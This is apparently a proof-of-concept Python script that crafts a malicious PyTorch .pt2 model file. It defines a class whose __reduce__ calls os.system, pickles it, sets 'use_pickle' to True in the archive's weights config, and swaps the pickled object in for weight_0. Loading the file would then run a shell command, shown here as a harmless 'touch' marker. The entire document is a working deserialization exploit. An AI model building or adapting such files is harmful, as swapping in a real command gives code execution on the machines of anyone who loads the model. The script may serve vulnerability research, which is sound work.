import torch, zipfile, io, os, json
class P:
    def __reduce__(s): return (os.system, ('touch /tmp/r36d/PWNED_pt2_weightpickle',))
b = io.BytesIO(); torch.save(P(), b)
zin = zipfile.ZipFile('base.pt2')
with zipfile.ZipFile('weightpickle.pt2', 'w') as zo:
    for i in zin.infolist():
        d = zin.read(i.filename)
        if i.filename.endswith('model_weights_config.json'):
            c = json.loads(d); c['config']['l.weight']['use_pickle'] = True; d = json.dumps(c).encode()
        if i.filename.endswith('weights/weight_0'): d = b.getvalue()
        zo.writestr(i, d)
